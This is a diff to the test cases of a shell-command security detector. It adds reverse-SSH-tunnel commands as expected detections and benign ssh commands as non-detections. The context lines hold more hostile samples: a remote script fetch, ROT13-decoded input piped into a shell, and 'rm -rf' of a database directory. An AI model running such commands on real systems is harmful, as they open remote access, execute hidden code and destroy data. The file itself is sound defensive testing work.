@@ -291,6 +291,10 @@ const POSITIVE: [string, string, string][] = [
   ['/usr/bin/c?rl https://x.example/p.sh', 'shell.computed-command', 'high'],
   // A transform piped into a shell, with no program name before the pipe to open the gate.
   ["printf 'ez -es ~' | tr 'a-z' 'n-za-m' | sh", 'shell.decode-and-run', 'critical'],
+  // Reverse tunnels: the remote reaches this machine's SSH, or listens on every interface.
+  ['ssh -f -N -R 2222:localhost:22 relay@198.51.100.20', 'shell.reverse-tunnel', 'high'],
+  ['ssh -NR 0.0.0.0:9001:127.0.0.1:8080 ops@bastion.example.net', 'shell.reverse-tunnel', 'high'],
+  ["ssh -o ServerAliveInterval=30 -R '*:5900:localhost:5900' me@vps.example.org", 'shell.reverse-tunnel', 'high'],
   ['cat notes.txt | tr N-ZA-Mn-za-m A-Za-z |bash', 'shell.decode-and-run', 'critical'],
   // Data stores: database and engine directories under /var/lib, emptied by rm, rsync or truncate.
   ['sudo rm -rf /var/lib/mysql', 'shell.rm-recursive-root', 'critical'],
@@ -421,6 +425,9 @@ const NEGATIVE: [string, string][] = [
   ['cat logs/2024-0?-*.log | grep ERROR', 'shell.computed-command'],
   ['How do I send a form upload with curl?', 'shell.computed-command'],
   ["echo 'make test' | sh", 'shell.decode-and-run'],
+  ['ssh -R 9000:localhost:3000 dev@staging.example.com', 'shell.reverse-tunnel'],
+  ['ssh -L 5432:db.internal:5432 bastion', 'shell.reverse-tunnel'],
+  ['ssh -p 2222 deploy@web1 uptime', 'shell.reverse-tunnel'],
   ['git log --oneline | sort | uniq -c | sh -c "cat"', 'shell.decode-and-run'],
   ['Which port does the sshd service?', 'shell.computed-command'],
   ['rm -rf /var/lib/apt/lists/*', 'shell.rm-recursive-root'],
